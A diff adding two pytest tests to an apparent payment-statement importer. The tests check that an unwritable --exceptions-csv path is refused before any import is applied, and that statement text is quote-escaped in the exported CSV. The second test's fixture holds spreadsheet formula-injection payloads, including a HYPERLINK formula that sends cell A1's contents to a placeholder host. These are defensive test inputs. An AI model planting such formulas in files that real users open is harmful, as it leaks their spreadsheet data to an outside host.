@@ -528,3 +528,33 @@ def test_an_orange_statement_names_charges_by_order_id(db, merchant):
     # the same file under the other rail is another statement, naming nothing of that rail's
     other = importer.run(db, data, rail="mtn", profile=profiles.PROFILES["default"], file_name="om.csv")
     assert {k: v["count"] for k, v in other["summary"].items()} == {"unknown_rail_transaction": 1, "error": 1}
+
+
+def test_an_unwritable_exceptions_csv_is_refused_before_anything_is_applied(ledger, db, db_url, tmp_path):
+    # With --apply the import commits first; a path that cannot be written
+    # failed only afterwards, as "internal error" (70) for an import that happened.
+    charge = _one_to_settle(ledger)
+    path = tmp_path / "s.csv"
+    path.write_bytes(statement.export(ledger.sandbox))
+    before = _counts(db)
+    out = _import(db_url, path, "--apply", "--exceptions-csv", str(tmp_path / "no-such-dir" / "x.csv"))
+    assert out.returncode == 2, (out.stdout, out.stderr)
+    [said] = _said(out)
+    assert "--exceptions-csv" in said and "internal error" not in said
+    assert _counts(db) == before and ledger.status(charge["id"]) == "pending"
+
+
+def test_the_exceptions_csv_quotes_statement_text_a_spreadsheet_would_run(db, db_url, tmp_path):
+    path = tmp_path / "s.csv"
+    path.write_text("reference,rail_transaction_id,amount,currency,status,time\n"
+                    '"=HYPERLINK(""http://example.com/?""&A1,""x"")",123,1.00,EUR,SUCCESSFUL,2026-12-01T01:00:00Z\n'
+                    "@SUM(1+1),+124,1.00,EUR,SUCCESSFUL,2026-12-01T01:00:00Z\n")
+    out_csv = tmp_path / "exceptions.csv"
+    out = _cli(db_url, "statements", "import", str(path), "--rail", "mtn", "--exceptions-csv", str(out_csv))
+    assert out.returncode == 0, out.stderr
+    rows = list(csv.DictReader(io.StringIO(out_csv.read_bytes().decode("utf-8-sig"))))
+    assert [r["outcome"] for r in rows] == ["unknown_rail_transaction"] * 2
+    assert rows[0]["reference"] == "'=HYPERLINK(\"http://example.com/?\"&A1,\"x\")"
+    assert rows[1]["reference"] == "'@SUM(1+1)"
+    assert rows[1]["rail_transaction_id"] == "+124"  # a plain number stays a number
+    assert all(r["amount"] == "1.00" for r in rows)
